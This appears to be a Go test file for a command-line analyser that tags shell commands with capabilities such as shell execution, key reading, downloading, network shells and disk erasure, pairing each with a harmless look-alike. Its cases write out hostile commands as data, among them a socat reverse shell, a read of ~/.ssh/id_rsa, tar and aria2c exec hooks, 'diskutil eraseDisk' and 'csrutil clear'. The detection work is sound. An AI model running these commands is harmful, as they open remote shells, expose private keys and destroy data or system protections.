package facts

import (
	"slices"
	"strings"
	"testing"
)

func TestTheCapabilityTableParsesAndNamesOnlyKnownCapabilities(t *testing.T) {
	if _, err := parseCapabilities(capabilitiesText); err != nil {
		t.Fatalf("the embedded table: %v", err)
	}
	for _, bad := range []string{"aria2c exec", "aria2c fly --x", "aria2c"} {
		if _, err := parseCapabilities(bad + "\n"); err == nil || !strings.Contains(err.Error(), "capabilities.txt:1") {
			t.Errorf("%q: err = %v, want one naming line 1", bad, err)
		}
	}
	tbl, err := parseCapabilities("a,b  exec  -x  | what it does\n# a comment\n\n")
	if err != nil {
		t.Fatal(err)
	}
	if len(tbl["a"]) != 1 || len(tbl["b"]) != 1 || tbl["b"][0].What != "what it does" {
		t.Errorf("table = %+v, want one row each for a and b, with its what", tbl)
	}
}

func TestEachFormOfArgumentsFindsItsValues(t *testing.T) {
	tests := []struct {
		cmd, form string
		hit       bool
		values    []string
	}{
		{"aria2c --on-download-complete=/bin/sh http://x", "--on-download-complete", true, []string{"/bin/sh"}},
		{"aria2c --on-download-complete /tmp/run http://x", "--on-download-complete", true, []string{"/tmp/run"}},
		{"aria2c http://x", "--on-download-complete", false, nil},
		{"tcpdump -z/tmp/run -i lo", "-z", true, []string{"/tmp/run"}},
		{"tar --checkpoint-action=exec=/bin/sh -cf x .", "--checkpoint-action=exec=", true, []string{"/bin/sh"}},
		{"tar --checkpoint-action=dot -cf x .", "--checkpoint-action=exec=", false, nil},
		{"ssh -o ProxyCommand=nc\\ x -o User=a host", "-o:ProxyCommand", true, []string{"nc x"}},
		{"ssh -o 'ProxyCommand sh -c x' host", "-o:ProxyCommand", true, []string{"sh -c x"}},
		{"socat TCP:h:1 EXEC:/bin/sh,pty", "arg:EXEC:", true, []string{"/bin/sh"}},
		{"systemctl stop rsyslog", "sub:stop", true, nil},
		{"systemctl status rsyslog", "sub:stop", false, nil},
		{"service syslogd stop", "sub:*+stop", true, nil},
		{"sysctl -n hw.model", "assign", false, nil},
		{"sysctl kern.x=1", "assign", true, []string{"kern.x=1"}},
		{"sw_vers", "*", true, nil},
		{"sysadminctl -deleteUser ada", "-deleteUser", true, []string{"ada"}},
	}
	for _, tt := range tests {
		an := Analyze(tt.cmd)
		if len(an.Commands) == 0 {
			t.Fatalf("%s: no command", tt.cmd)
		}
		values, hit := formValues(&an.Commands[0], tt.form)
		if hit != tt.hit || !slices.Equal(values, tt.values) && len(tt.values) > 0 {
			t.Errorf("%s with %s: %v %q, want %v %q", tt.cmd, tt.form, hit, values, tt.hit, tt.values)
		}
	}
}

// Every capability, used by a command of the table, and a look-alike that does not use it: the
// same program used harmlessly, where it has such a use.
func TestEveryCapabilityHasACommandThatUsesItAndALookAlikeThatDoesNot(t *testing.T) {
	tests := map[Capability]struct{ uses, alike string }{
		CapShell:        {`ssh -o ProxyCommand='nc %h %p' host`, `ssh -o ProxyJump=bastion host`},
		CapExec:         {`tcpdump -z /tmp/run -w cap.pcap`, `tcpdump -w cap.pcap`},
		CapWrite:        {`openssl enc -out ~/.zshrc -in x`, `openssl version`},
		CapRead:         {`openssl enc -in ~/.ssh/id_rsa`, `openssl rand -hex 8`},
		CapDownload:     {`aria2c -o x.sh https://get.example/x.sh`, `aria2c --version`},
		CapFetch:        {`aria2c https://get.example/x.sh`, `wc -l https://get.example/x.sh`},
		CapNetShell:     {`socket -p 'sh -i' h.example 4444`, `socket h.example 4444`},
		CapStdinPaths:   {`cpio -o < list.txt`, `cpio -i < archive.cpio`},
		CapImpact:       {`diskutil eraseDisk APFS X disk2`, `diskutil list`},
		CapAccount:      {`dscl . -create /Users/eve`, `dscl . -read /Users/ada`},
		CapServiceStop:  {`launchctl unload /Library/LaunchDaemons/x.plist`, `launchctl list`},
		CapSystemConfig: {`csrutil clear`, `csrutil status`},
		CapPrivilege:    {`dscl . -authonly ada pw`, `dscl . -list /Users`},
		CapLibrary:      {`curl --engine /tmp/e.so https://x.example`, `curl https://x.example`},
		CapCollect:      {`ffmpeg -f avfoundation -i 1 out.mov`, `ffmpeg -i in.mov out.mp4`},
		CapRemoteAccess: {`cloudflared tunnel --url localhost:22`, `cloudflared --version`},
		CapServe:        {`php -S 0.0.0.0:8000`, `php -v`},
		CapMount:        {`hdiutil attach x.dmg`, `hdiutil info`},
		CapSQL:          {`psql -c 'DROP TABLE t'`, `psql -l`},
		CapPublish:      {`gh repo edit --visibility public`, `gh repo edit --visibility private`},
		CapShare:        {`gh gist create --public notes.md`, `gh gist create notes.md`},
	}
	for _, c := range knownCapabilities {
		tt, ok := tests[c]
		if !ok {
			t.Errorf("capability %s has no case", c)
			continue
		}
		if !uses(tt.uses, c) {
			t.Errorf("%s: does not use %s", tt.uses, c)
		}
		if uses(tt.alike, c) {
			t.Errorf("look-alike %s: uses %s", tt.alike, c)
		}
	}
}

// uses reports whether any command of a line uses a capability.
func uses(line string, c Capability) bool {
	a := Analyze(line)
	for i := range a.Commands {
		if slices.ContainsFunc(CapabilityHits(&a.Commands[i]), func(h CapHit) bool { return h.Cap == c }) {
			return true
		}
	}
	return false
}
